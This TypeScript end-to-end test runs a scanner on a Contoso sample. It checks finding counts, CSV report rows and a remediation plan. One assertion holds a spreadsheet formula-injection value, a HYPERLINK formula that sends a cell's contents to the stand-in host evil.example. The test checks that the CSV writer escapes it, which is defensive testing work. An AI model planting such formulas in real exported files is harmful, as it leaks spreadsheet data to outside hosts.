// The shipped sample scanned end to end, checked against the counts samples/contoso/README.md states.
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { RemediationPlan } from '../../src/plan/types.js';
import { runCli } from '../helpers/cli.js';
import { readCsv } from '../helpers/csv.js';
import { tempDir } from '../helpers/clixml.js';

const sample = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..', 'samples', 'contoso');

test('the Contoso sample gives the counts its README states', async () => {
  const out = path.join(await tempDir(), 'out');
  const run = await runCli(['scan', sample, '--out', out, '--scan-id', 'contoso', '--json', '--quiet']);
  expect(run.code).toBe(0);
  const summary = JSON.parse(run.stdout);
  expect(summary).toMatchObject({ files: 5, failedFiles: 0, errors: 0 });
  expect(summary.findings).toMatchObject({
    'secure-store/compatible': 2,
    'secure-store/convert': 4,
    'secure-store/redesign': 6,
    'locked-sites/NoAccess': 6,
    'locked-sites/ReadOnly': 5,
    'locked-sites/NoAdditions': 5,
    'locked-sites/Unknown': 2,
    'profile-mappings/usedByProfile': 1,
  });
  expect(summary.findings['secure-store/unknown']).toBeUndefined();

  const reports = path.join(out, 'ScannerReports');
  const apps = await readCsv(path.join(reports, 'SecureStoreApplications-detail.csv'));
  expect(apps.rows).toHaveLength(13);
  const payroll = apps.rows.find((r) => r[0] === 'PayrollExport')!;
  expect(payroll[2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Payroll")`);
  expect(apps.rows.find((r) => r[0] === 'LegacyERP-Ticket')![2]).toContain('\n');
  expect(apps.rows.find((r) => r[0] === 'MoscowSales')![2]).toBe('Отчёты продаж — Сергей Иванов');
  expect((await readCsv(path.join(reports, 'LockedSites-detail.csv'))).rows).toHaveLength(7);
  expect((await readCsv(path.join(reports, 'SiteLocks-detail.csv'))).rows).toHaveLength(19);
  expect((await readCsv(path.join(reports, 'CustomProfilePropertyMappings-detail.csv'))).rows).toHaveLength(13);

  const plan = JSON.parse(await readFile(path.join(out, 'remediation-plan.json'), 'utf8')) as RemediationPlan;
  expect(plan.steps).toHaveLength(12);
  expect(plan.steps.filter((s) => s.needsDecision).map((s) => s.applicationId)).toEqual(['FinanceReports', 'LegacyERP-Ticket', 'MoscowSales', 'OBrienTimesheets', 'PartnerPortalCert', 'ZH-Lohn']);
  expect(plan.steps.find((s) => s.applicationId === 'HRPayrollDB')!.usedByProfileMappings.map((u) => u.propertyName)).toEqual(['ContosoPayGrade', 'CostCenter', 'EmployeeID', 'Manager']);
  expect(plan.steps.every((s) => s.targetType === 'RestrictedGroup')).toBe(true);
});
